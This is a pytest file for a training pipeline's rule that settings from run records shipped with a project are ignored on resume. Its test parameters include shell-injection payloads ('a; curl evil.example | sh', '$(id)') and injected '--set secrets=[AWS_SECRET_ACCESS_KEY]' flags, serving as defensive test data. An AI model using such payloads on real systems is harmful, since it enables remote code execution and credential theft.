"""SE-12: recorded settings are used only if the user wrote the record."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from pipeline.actions.merge import merge_run
from pipeline.actions.run_evaluation import evaluate_run
from pipeline.cli.connecting import selected_by_run
from pipeline.config.load import LoadedConfig
from pipeline.messages.outcome import Outcome
from pipeline.records.last_seen import note_job
from pipeline.records.layout import NOTE, Records
from pipeline.records.runs import read_note, write_note
from remote.errors import BadUsage
from remote.protocol.findings import Finding
from remote.protocol.jobs import JobState
from tests.pipeline.config.config_files import write
from tests.pipeline.hosts.cloned_notes import brought, note
from tests.pipeline.listeners import NoListener

GIVEN = ("--host", "local", "--config", "plain", "--set", "secrets=[AWS_SECRET_ACCESS_KEY]", "--set", "data.path=~")
HINTED = Finding.warning("stopped", "the job was stopped", "plain", "pipeline run")


@pytest.mark.parametrize("seen", [False, True], ids=["cloned", "seen by a later command"])
def test_SE_12_the_settings_of_a_note_that_came_with_the_project_are_not_used_to_resume_its_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, seen: bool
) -> None:
    records = Records(tmp_path)
    place = brought(records, "plain-0123abcd", replace(note(), given=GIVEN))
    if seen:
        note_job(place, JobState.FAILED)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(BadUsage, match="not written by you") as caught:
        selected_by_run("plain-0123abcd", "", "", ())
    assert caught.value.hint == "pipeline run --host HOST --config NAME --resume plain-0123abcd"
    typed = ("rig", "plain", ("train.seed=1",))
    assert selected_by_run("plain-0123abcd", *typed) == typed


def test_the_settings_of_a_note_of_this_laptop_are_used_to_resume_its_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    records = Records(tmp_path)
    write_note(records, replace(note(), given=GIVEN))
    note_job(records.run("plain-0123abcd", "rig"), JobState.FAILED)
    monkeypatch.chdir(tmp_path)
    assert selected_by_run("plain-0123abcd", "", "", ("train.seed=1",)) == (
        "local",
        "plain",
        (*GIVEN[5::2], "train.seed=1"),
    )


def test_SE_12_an_evaluation_is_not_resumed_with_the_settings_of_the_training_that_it_evaluates(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_note(Records(tmp_path), replace(note("plain-evaluated"), given=GIVEN, evaluates="plain-0123abcd"))
    monkeypatch.chdir(tmp_path)
    with pytest.raises(BadUsage, match="is not a training run") as caught:
        selected_by_run("plain-evaluated", "", "", ())
    assert caught.value.hint == "pipeline evaluate plain-0123abcd"


@pytest.mark.parametrize("own", [True, False])
@pytest.mark.parametrize("kind", ["run", "evaluate", "evaluate --adapter"])
def test_SE_12_a_command_that_is_printed_has_recorded_settings_only_if_the_user_wrote_the_record(
    tmp_path: Path, own: bool, kind: str
) -> None:
    evaluates = {"run": "", "evaluate": "plain-89abcdef", "evaluate --adapter": "/my/adapter"}[kind]
    given = (*GIVEN, "--set", "evaluation.samples=3")
    records, recorded = Records(tmp_path), replace(note(), given=given, varied=("train.seed=1",), evaluates=evaluates)
    if own:
        write_note(records, recorded)
    else:
        brought(records, "plain-0123abcd", recorded)
    read = read_note(records.folder_named("plain-0123abcd"))
    assert read is not None
    assert read.varied == (("train.seed=1",) if own else ())
    assert ("--set" in read.resume_command) is own
    failed = Outcome("logs", host=read.host, config=read.config, given=read.given, findings=(HINTED,))
    assert ("secrets" in failed.shown_findings[0].hint) is own


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("verb", "run --set secrets=[AWS_SECRET_ACCESS_KEY]"),
        ("evaluates", "--set=secrets=[AWS_SECRET_ACCESS_KEY]"),
        ("evaluates", "a; curl evil.example | sh"),
    ],
)
def test_SE_12_a_record_with_words_of_a_command_is_not_read(tmp_path: Path, field: str, value: str) -> None:
    place = brought(Records(tmp_path), "plain-0123abcd", note())
    body = json.loads((place / NOTE).read_bytes())
    (place / NOTE).write_text(json.dumps({**body, "evaluates": "plain-89abcdef", field: value}))
    assert read_note(place) is None


@pytest.mark.parametrize("run", ["a;curl evil.example|sh", "--all", "$(id)", "a b", "a\n"])
def test_SE_12_a_run_whose_name_has_a_meaning_in_a_shell_is_not_read(tmp_path: Path, run: str) -> None:
    place = tmp_path / ".halfstep/runs" / run
    place.mkdir(parents=True)
    (place / NOTE).write_text(
        json.dumps({"run": run, "host": "rig", "config": "c", "project": "p", "created_unix": 1.0})
    )
    assert read_note(place) is None


STARTS: dict[str, Callable[[], object]] = {
    "evaluate": lambda: evaluate_run("plain-0123abcd", (), NoListener(), prompter=None),
    "merge": lambda: merge_run("plain-0123abcd", NoListener(), dequantize=False, prompter=None),
}


@pytest.mark.parametrize("verb", STARTS)
def test_SE_12_the_data_path_of_a_foreign_record_is_not_loaded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, verb: str
) -> None:
    write(tmp_path, "host: rig.example\nport: 2222\n", "hosts/rig")
    write(tmp_path, "command: python train.py\n", "plain")
    (tmp_path / "train.py").touch()
    brought(Records(tmp_path), "plain-0123abcd", replace(note(), given=GIVEN))
    loaded: list[LoadedConfig] = []

    def stop(config: LoadedConfig, *_: object, **__: object) -> None:
        loaded.append(config)
        raise BadUsage("reached")

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("pipeline.actions.trained_run.require_secret_consent", stop)
    with pytest.raises(BadUsage, match="reached"):
        STARTS[verb]()
    (one,) = loaded
    assert not one.config.data.path and not one.config.secrets
